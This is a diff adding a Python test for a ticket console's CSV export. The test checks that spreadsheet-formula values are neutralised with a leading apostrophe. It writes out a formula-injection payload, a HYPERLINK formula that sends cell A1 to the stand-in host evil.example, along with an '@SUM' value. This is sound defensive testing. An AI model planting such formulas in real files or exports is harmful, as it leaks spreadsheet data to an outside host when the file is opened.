@@ -47,3 +47,16 @@ def test_officers_export_only_their_department(
     create_ticket(api_client, service_headers, marker, area="Tân Thạnh")
     response = client_as("officer").get("/api/v1/console/tickets.csv", params={"q": marker})
     assert [row[0] for row in rows_of(response.content)[1:]] == [mine]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_made_inert(
+    client_as: Callable[[str], TestClient], api_client: TestClient, service_headers: dict[str, str]
+) -> None:
+    marker = token()
+    formula = f'=HYPERLINK("http://evil.example/?leak="&A1,"Xem ảnh {marker}")'
+    create_ticket(api_client, service_headers, marker, description=formula, location_text="@SUM(1+1)")
+    response = client_as("dispatcher").get("/api/v1/console/tickets.csv", params={"q": marker})
+    header, row = rows_of(response.content)
+    cells = dict(zip(header, row, strict=True))
+    assert cells["Nội dung"] == "'" + formula and cells["Địa điểm"] == "'@SUM(1+1)"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
